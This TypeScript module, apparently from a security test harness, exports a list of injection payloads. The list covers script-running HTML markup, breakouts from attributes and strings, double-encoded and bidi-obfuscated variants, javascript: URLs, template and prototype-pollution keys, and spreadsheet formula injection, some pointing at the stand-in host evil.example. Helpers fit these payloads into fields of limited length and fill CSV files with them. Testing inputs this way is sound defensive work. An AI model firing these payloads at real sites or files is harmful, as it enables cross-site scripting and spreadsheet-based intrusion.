/** The call that every payload tries to make: the browser is given it, and whoever makes it is caught. */
export const call = 'ran()';

/**
 * Text that browsers, templates, translations, objects and spreadsheets have been tricked with. Most are short, so that a
 * field of 30 characters takes them whole: cut in the middle of a tag they would be harmless by themselves.
 */
export const payloads: readonly string[] = [
  // Markup that runs as it is read.
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<q autofocus onfocus=${call} tabindex=1>`,
  `<iframe src=javascript:${call}>`,
  `<iframe srcdoc='<svg onload=${call}>'>`,
  `<math><mi xlink:href=javascript:${call}>x`,
  `<style>@import'//evil.example'</style>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content=0;javascript:${call}>`,
  // Out of the attribute, the element, the comment or the string that it stands in.
  `"><svg onload=${call}>`,
  `'><svg onload=${call}>`,
  `" onfocus=${call} autofocus x="`,
  `--><svg onload=${call}>`,
  `</script><svg onload=${call}>`,
  `</title><svg onload=${call}>`,
  `</textarea><svg onload=${call}>`,
  `"};${call};//`,
  `';${call};//`,
  // Decoded once too often.
  `&lt;svg onload=${call}&gt;`,
  `%3Csvg onload=${call}%3E`,
  `\\u003csvg onload=${call}\\u003e`,
  // Addresses that run.
  `javascript:${call}`,
  `JaVaScRiPt:${call}//`,
  `java\u2028script:${call}`,
  `<a href=javascript:${call}>x</a>`,
  `data:text/html,<svg onload=${call}>`,
  // Templates, translations and names that objects have already.
  `{{${call}}}`,
  `\${${call}}#{${call}}<%=${call}%>`,
  `{x, select, other {<svg onload=${call}>}}`,
  `$t(${call}) %s {0} {}`,
  '__proto__',
  'constructor',
  // Read from the other side, with signs that take no room.
  `\u202E>)(nar=daolno gvs<\u202C\u200B\u2066x`,
  // What a spreadsheet runs, also where it takes another separator than was written.
  `=HYPERLINK("javascript:${call}")`,
  `+${call}`,
  `-2+${call}|' /C calc'!A0`,
  `@SUM(${call})`,
  `x;=1+${call};y`,
  `\uFF1D1+${call}`,
  // Longer than any column is wide.
  'W'.repeat(60),
];

/** From this much room on a text holds many payloads in a row. */
const roomForMany = 150;

/**
 * What a field with that much room is given in a round: the payload of the round, or the next that fits; where there is
 * room, as many of the following ones as it holds. Undefined where nothing fits.
 */
export function textOfRound(round: number, atMost: number, isTaken: (text: string) => boolean): string | undefined {
  const fitting = payloads.filter((payload) => payload.length <= atMost && isTaken(payload));
  if (fitting.length === 0) return undefined;
  const inTurn = fitting.map((_, index) => fitting[(round + index) % fitting.length] ?? '');
  const [first = '', ...others] = inTurn;
  if (atMost < roomForMany) return first;
  return others.reduce((text, next) => {
    const longer = `${text} ${next}`;
    return longer.length <= atMost && isTaken(longer) ? longer : text;
  }, first);
}

/** The payloads that stand whole in a text. */
export const payloadsIn = (text: string): string[] => payloads.filter((payload) => text.includes(payload));

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** A CSV with a payload in every cell that holds words below its header, and in one more column, header and all. */
export const hostileCsv = (csv: string, text: string): string => {
  const [header = '', ...lines] = csv.trim().split('\n');
  const cells = lines.map((line) => line.split(',').map((each) => (/[a-z]/i.test(each) ? cell(text) : each)));
  return [header, ...cells.map((line) => line.join(','))].map((line) => `${line},${cell(text)}`).join('\n');
};
